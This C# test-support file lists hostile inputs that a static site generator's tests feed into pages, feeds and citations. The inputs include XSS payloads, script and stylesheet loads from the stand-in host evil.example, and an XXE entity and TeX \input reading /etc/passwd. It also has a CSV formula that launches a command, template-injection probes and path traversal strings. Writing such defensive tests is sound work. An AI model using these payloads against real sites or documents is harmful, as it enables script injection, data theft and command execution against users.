namespace SiteGen.Tests.Support;

/// <summary>
/// Texts with which an attacker could try to inject a script, markup, an address, a template or a record into a page, a feed,
/// an index or a citation. All tests of hostile text share this list; add new attacks here. Scripts call <c>alert</c>, and
/// templates evaluate to <see cref="Evaluated"/>.
/// </summary>
internal static class HostileText
{
    /// <summary>The result of the templates among the texts.</summary>
    public const string Evaluated = "54439";

    /// <summary>The texts.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        // Elements that run scripts or load resources.
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\" alt='", "<svg onload=alert(1)>",
        "<svg><script href=data:text/javascript,alert(1) />",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src onerror=alert(1)>\">",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<style>@import '//evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<div>\n<script>alert(1)</script>\n</div>",
        "<x-y\u000Conclick=alert(1)>", "<img/src/onerror=alert(1)>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
        // Endings of the context around the text.
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</pre></code><script>alert(1)</script>", "</svg></math><script>alert(1)</script>", "--><script>alert(1)</script><!--", "<!--",
        "<!-- --!><img src=x onerror=alert(1)>",
        "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
        // Character references that change their meaning if they are decoded twice.
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "&quot; onclick=&quot;alert(1)", "&#34; autofocus onfocus=alert(1) x=&#34;", "&amp;lt;b&amp;gt; &#0; &#x110000; &bogus; &copy",
        // Addresses.
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)", "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "https://evil.example@lab.example/",
        "file:///etc/passwd", "blob:https://lab.example/x",
        // Markdown.
        "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](java&#115;cript:alert(1))", "[x](javascript&colon;alert(1))",
        "[x](&#1;javascript:alert(1))", "[x](java%0ascript:alert(1))", "[x](<java\tscript:alert(1)>)",
        "[x](javascript\\:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))", "[x](//evil.example/x)",
        "[x](\\\\evil.example)", "[x](/\\evil.example)", "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](https://a.example/ \"\\\" onmouseover=\\\"alert(1)\")", "[x](https://a.example/ '\"><script>alert(1)</script>')",
        "![\" onerror=\"alert(1)](https://a.example/x.png)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![x](x\"onerror=\"alert(1).png)",
        "<javascript:alert(1)>", "<data:text/html,x>", "<https://a.example/\"onclick=alert(1)>", "<x@a.example\"onclick=alert(1)>",
        "https://a.example/'onclick=alert(1)//\"onclick=alert(1)", "www.a.example/\"><script>alert(1)</script>",
        "[x]\n\n[x]: javascript:alert(1)", "[x][y]\n\n[y]: <javascript:alert(1)> \"x\"",
        "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
        "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
        "| a | b\" onclick=\"x |\n|:--|--:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
        "```x\" onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "~~~ <img src=x onerror=alert(1)>\nx\n~~~", "    <script>alert(1)</script>", "`</code><script>alert(1)</script>`",
        "# <script>alert(1)</script> {#x onclick=alert(1)}", "# x {onclick=alert(1)}", "[x](https://a.example/){onclick=alert(1)}",
        "*x*{style=\"color:red\"}", "::: x\" onclick=\"alert(1)\nx\n:::", "> <script>\n> alert(1)\n> </script>",
        "- [x](javascript:alert(1))\n- <script>alert(1)",
        "*[x]: <script>alert(1)</script>\nx", "[toc]\n[[javascript:alert(1)]]", "[x](<>)[y]()[z](<javascript:alert(1)> 't')",
        // Templates, YAML, JSON, CSV.
        "{{ 7777 * 7 }}", "{{ paper.title | object.eval }}{{ 7777*7 }}", "{% 7777*7 %}{{% 7777*7 %}}",
        "{{ include 'entry' }}{{ site.extra }}", "${7777*7}#{7777*7}<%= 7777*7 %>", "}}{{ for x in 1..3 }}{{ 7777*7 }}{{ end }}",
        "{{{ '{{ 7777*7 }}' }}}", "{{~ func alert }}{{ end ~}}",
        "!!js/function 'function(){alert(1)}'", "&a [*a, *a]", "x: y\n---\ntitle: \"other\"", "\"\nsearch: false\nx: \"",
        "{\"a\":\"b\",\"__proto__\":{\"x\":1}}", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\",\"url\":\"javascript:alert(1)\",\"x\":\"", "=cmd|'/C calc'!A0", "\\\"},{\\\"id\\\":\\\"x",
        // TeX and citations.
        "$\\href{javascript:alert(1)}{x}$", "\\href{javascript:alert(1)}{x}", "\\url{javascript:alert(1)}",
        "$\\text{<script>alert(1)</script>}$", "$\\class{x\" onclick=\"alert(1)}{y}$", "$\\style{background:url(//evil.example/)}{y}$",
        "$\\mathchoice{<img src=x onerror=alert(1)>}$", "$\\operatorname{\"><script>alert(1)</script>}$",
        "$x<script>alert(1)</script>$", "$\\unicode{x3c}script$", "$\\begin{\"><img src=x onerror=alert(1)>}x\\end{y}$",
        "$$\\color{red\" onclick=\"alert(1)}x$$", "$\\input{/etc/passwd}\\write18{x}$", "\\input{/etc/passwd} \\immediate\\write18{x}",
        "\\def\\x{\\x}\\x", "$\\tag{\" onclick=\"alert(1)}$",
        "}},\n  url = {javascript:alert(1)},\n}\n@misc{evil,\n  title = {{x", "{{{{{", "}}}}}", "\\}", "x\\",
        "@comment{x}@string{a = \"b\"}", "% x", "x\nER  - \nTY  - JOUR\nUR  - javascript:alert(1)", "x\r\nUR  - javascript:alert(1)",
        "x\u2028UR  - javascript:alert(1)\u2029\u0085UR  - y",
        // Characters.
        "x\u202Etxet desrever\u2066\u2069", "\u0000\u0001\u0008\u000B\u001B[31m\u007F\u009F", "\uFEFF\u200B\u200D\uFFFE\uFFFF\uFFFD",
        "＜script＞alert(1)＜/script＞", "\u212Ascript ſcript \u0130script", "Z\u0310\u0351\u0343\u0300\u0301a\u0310\u0351\u0343l\u0310go",
        "😀\u200D🔥🇩🇪", string.Concat(Enumerable.Repeat("Donaudampfschiff", 200)),
        string.Concat(Enumerable.Repeat("<b>", 300)), string.Concat(Enumerable.Repeat("> ", 90)), string.Concat(Enumerable.Repeat("[", 60)),
        "..\\..\\x ../../etc/passwd %2e%2e%2f CON nul.", "constructor __proto__ hasOwnProperty toString",
    ];
}
